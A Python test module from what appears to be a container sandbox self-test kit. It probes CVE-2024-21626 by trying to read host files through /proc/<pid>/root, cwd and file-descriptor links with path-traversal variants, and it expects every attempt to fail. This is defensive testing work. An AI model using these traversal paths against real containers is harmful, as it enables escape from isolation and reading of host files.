"""The host's files by way of /proc."""

import os
from collections.abc import Iterator
from contextlib import suppress
from functools import partial

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.files import read_file


@attack(
    aim="host_files_in_root",
    source="CVE-2024-21626 (/proc/self/fd led to the host)",
    expects="no such file",
    control="own_files_in_root",
)
def attempts(aim: list[str]) -> Iterator[Attempt]:
    """Reads the host's files through the root, directory and descriptors of every process that it sees."""
    for process in (
        name for name in os.listdir("/proc") if name.isdigit() or name in {"self", "thread-self"}
    ):
        links = [f"/proc/{process}/root", f"/proc/{process}/cwd", *_descriptors(process)]
        for link in links:
            for path in aim:
                for way in (f"{link}{path}", f"{link}/..{path}", f"{link}/../../../../..{path}"):
                    yield way, partial(read_file, way)


def _descriptors(process: str) -> list[str]:
    with suppress(OSError):
        return [f"/proc/{process}/fd/{name}" for name in os.listdir(f"/proc/{process}/fd")]
    return []
